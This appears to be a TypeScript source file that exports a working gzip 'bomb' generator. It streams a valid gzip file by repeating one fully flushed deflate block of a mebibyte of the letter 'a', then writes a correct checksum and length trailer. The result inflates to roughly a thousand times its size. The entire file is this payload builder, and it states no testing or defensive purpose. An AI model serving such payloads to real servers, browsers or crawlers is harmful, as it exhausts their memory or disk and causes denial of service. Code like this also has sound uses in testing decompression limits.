import { constants, crc32, deflateRawSync } from 'node:zlib';

const BLOCK_BYTES = 1024 * 1024;
const HEADER = Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3]);
/** An empty final deflate block. */
const LAST_BLOCK = Buffer.from([3, 0]);

/** A valid gzip file of `first` and then `mebibytes` of the letter a, in pieces: compressed to about a thousandth. */
export function* gzipBomb(first: string, mebibytes: number): Generator<Buffer> {
  const plain = Buffer.alloc(BLOCK_BYTES, 'a');
  const flushed = { finishFlush: constants.Z_FULL_FLUSH, level: 9 };
  // After a full flush no block refers to an earlier one, so one compressed block can be repeated.
  const block = deflateRawSync(plain, flushed);
  let checksum = crc32(first);
  yield Buffer.concat([HEADER, deflateRawSync(first, flushed)]);
  for (let sent = 0; sent < mebibytes; sent += 1) {
    checksum = crc32(plain, checksum);
    yield block;
  }
  const trailer = Buffer.alloc(8);
  trailer.writeUInt32LE(checksum, 0);
  trailer.writeUInt32LE((Buffer.byteLength(first) + mebibytes * BLOCK_BYTES) % 2 ** 32, 4);
  yield Buffer.concat([LAST_BLOCK, trailer]);
}
